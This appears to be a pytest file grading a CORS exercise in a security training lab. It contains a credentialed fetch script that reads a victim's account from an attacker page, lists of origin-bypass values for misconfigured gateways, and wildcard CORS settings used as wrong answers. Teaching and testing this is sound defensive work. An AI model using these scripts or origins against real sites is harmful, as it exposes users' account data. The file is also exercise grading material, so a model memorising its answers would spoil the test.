"""10-cors: every check fails on the stub and on plausible wrong answers, and passes on the
reference — judged through the real lab, over HTTP and in real Chromium."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import pytest

from labkit.attacks import cors
from labkit.exercises.check import CheckResult
from labkit.exercises.lab import Lab
from tests.labs import running_lab

pytestmark = pytest.mark.usefixtures("not_strict")  # failing on purpose is the point

Settings = Callable[[list[str]], dict[str, Any]]
STEAL_JS = """
const response = await fetch(api + "/api/account", {credentials: "include"});
return await response.json();
"""
#: What the notebook hands the fix checks: the learner's own exploits.
EXPLOITS = {
    "script": STEAL_JS,
    "origins": {g: cors.ORIGIN_BATTERY[g] for g in ("null", "suffix", "prefix", "regex", "http")},
}


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    with running_lab(tmp_path_factory, "10-cors") as opened:
        yield opened


def victim(lab: Lab) -> tuple[str, str]:
    return lab.users["alice"].email, lab.users["alice"].password


# -- the learner's possible fixes (wrong and right alternatives: tests/fixes/10-cors/) -----
def reference(trusted: list[str]) -> dict[str, Any]:
    return {
        "allow_origins": list(trusted),
        "allow_credentials": True,
        "allow_methods": ["GET", "PUT"],
        "allow_headers": ["Content-Type", "Authorization"],
        "max_age": 600,
    }


def stub(trusted: list[str]) -> dict[str, Any]:
    raise NotImplementedError


def check(lab: Lab, check_id: str, settings: Settings) -> CheckResult:
    return lab.check(check_id, cors_settings=settings)


# -- attack checks -------------------------------------------------------------------------
@pytest.mark.browser
def test_steal_account(lab: Lab, chromium_path: str) -> None:
    assert lab.check("steal-account", STEAL_JS).passed
    # another way to write it: text, then JSON.parse
    other = 'const r = await fetch(`${api}/api/account`, {credentials: "include"});\n' + (
        "return JSON.parse(await r.text());"
    )
    assert lab.check("steal-account", other).passed
    assert not lab.check("steal-account", None).passed  # the stub's None
    stub_js = "// TODO: read /api/account from the bank at `api`, with Alice's cookie"
    result = lab.check("steal-account", stub_js)
    assert not result.passed and "not the victim's account" in repr(result)
    # plausible wrong scripts: no credentials (the API answers 401), a syntax error, the
    # attacker's own account read with a token
    no_cookie = 'return await (await fetch(api + "/api/account")).json();'
    assert not lab.check("steal-account", no_cookie).passed
    broken = lab.check("steal-account", "return await fetch(api +;")
    assert not broken.passed and "your script threw" in repr(broken)
    bob = lab.client.post(
        "/api/auth/login",
        json={"email": lab.users["bob"].email, "password": lab.users["bob"].password},
    ).json()["accessToken"]
    own = (
        f'return await (await fetch(api + "/api/account", {{headers: {{Authorization: '
        f'"Bearer {bob}"}}}})).json();'
    )
    result = lab.check("steal-account", own)
    assert not result.passed and "not the victim's account" in repr(result)


GATEWAY_ANSWERS = {
    "null": ("null", ["https://evil.example.net", "https://app.example.com"]),
    "suffix": (
        "https://evilapp.example.com",
        ["https://app.example.com", "http://app.example.com"],
    ),
    "prefix": ("https://app.example.com.evil.net", ["https://evilapp.example.com"]),
    "regex": ("https://appxexample.com", ["https://app.example.com.evil.net"]),
    "http": ("http://app.example.com", ["https://evil.example.net", "https://evilapp.example.com"]),
}


#: Origins that get through a gateway but that no browser sends from an attacker's page.
NOT_FROM_A_BROWSER = {
    "suffix": ["https://x@evilapp.example.com"],
    "prefix": [
        "https://app.example.com.evil",
        "https://app.example.com:443",
        "https://app.example.com.EVIL.net",
    ],
    "regex": ["https://app.examplexcom"],
    "http": ["http://app.example.com:80"],
}


@pytest.mark.parametrize("gateway", sorted(GATEWAY_ANSWERS))
def test_gateway_checks(lab: Lab, gateway: str) -> None:
    right, wrongs = GATEWAY_ANSWERS[gateway]
    check_id = f"{gateway}-origin"
    assert lab.check(check_id, right).passed
    assert not lab.check(check_id, None).passed  # the stub
    assert not lab.check(check_id, right + "/").passed  # not an origin
    for wrong in wrongs:
        assert not lab.check(check_id, wrong).passed, wrong


@pytest.mark.parametrize("gateway", sorted(NOT_FROM_A_BROWSER))
def test_gateway_checks_judge_origins_as_a_browser_sends_them(lab: Lab, gateway: str) -> None:
    for origin in NOT_FROM_A_BROWSER[gateway]:
        through = cors.probe_origin(lab.client, origin, path=f"/api/legacy/{gateway}/account")
        assert through.allow_origin == origin, f"{origin} should get through the gateway"
        result = lab.check(f"{gateway}-origin", origin)
        assert not result.passed, origin
        assert "no browser would send" in repr(result), repr(result)
    for bypass in ("https://app-example.com", "https://appxexample.com"):
        assert lab.check("regex-origin", bypass).passed, bypass


# -- fix checks: the stub fails, the reference passes -------------------------------------
@pytest.mark.parametrize("check_id", ["origin-battery", "preflight"])
def test_fix_checks_over_http(lab: Lab, check_id: str) -> None:
    stubbed = check(lab, check_id, stub)
    assert not stubbed.passed and "NotImplementedError" in repr(stubbed)
    passed = check(lab, check_id, reference)
    assert passed.passed, passed


def test_the_origin_battery_generates_origins_around_the_trusted_ones(lab: Lab) -> None:
    first = repr(lab.check("origin-battery", cors_settings=reference, seed=1))
    assert "generated origins" in first and "none allowed" in first

    def one_subdomain(trusted: list[str]) -> dict[str, Any]:
        return {**reference(trusted), "allow_origin_regex": r"https://admin\.example\.com"}

    result = lab.check("origin-battery", cors_settings=one_subdomain, seed=1)
    assert not result.passed and "https://admin.example.com (sibling" in repr(result)
    assert "seed=1" in repr(result)


@pytest.mark.browser
def test_browser_exploit(lab: Lab, chromium_path: str) -> None:
    assert not check(lab, "browser-exploit", stub).passed
    passed = check(lab, "browser-exploit", reference)
    assert passed.passed and "Chromium" in repr(passed), passed


@pytest.mark.browser
def test_verify(lab: Lab, chromium_path: str) -> None:
    assert not check(lab, "verify", stub).passed
    passed = check(lab, "verify", reference)
    assert passed.passed, passed


@pytest.mark.browser
def test_the_fix_checks_replay_the_learners_own_exploits(lab: Lab, chromium_path: str) -> None:
    passed = lab.check("verify", EXPLOITS, cors_settings=reference)
    assert passed.passed, passed
    text = repr(passed)
    assert "your attacker page from Attack 1 is now refused" in text, text
    assert "your 5 bypass origins from Attacks 2-6" in text, text

    def also_mine(trusted: list[str]) -> dict[str, Any]:  # trusts one of the learner's origins
        return {**reference(trusted), "allow_origins": [*trusted, "https://evil-bank.com"]}

    mine = {"script": STEAL_JS, "origins": ["https://evil-bank.com"]}
    failed = lab.check("origin-battery", mine, cors_settings=also_mine)
    assert not failed.passed and "your own bypass origins" in repr(failed), failed
    skipped = lab.check("origin-battery", "not a dict", cors_settings=reference)
    assert skipped.passed and "were not replayed" in repr(skipped), skipped


@pytest.mark.browser
def test_a_wildcard_lets_the_learners_script_read_again(lab: Lab, chromium_path: str) -> None:
    def reflect(trusted: list[str]) -> dict[str, Any]:
        return {**reference(trusted), "allow_origins": ["*"]}

    failed = lab.check("browser-exploit", EXPLOITS, cors_settings=reflect)
    assert not failed.passed and "your attacker page from Attack 1 still reads" in repr(failed)


def test_a_fix_that_returns_the_wrong_type_is_feedback(lab: Lab) -> None:
    result = lab.check("origin-battery", cors_settings=lambda trusted: ["*"])
    assert not result.passed and "expected dict" in repr(result)
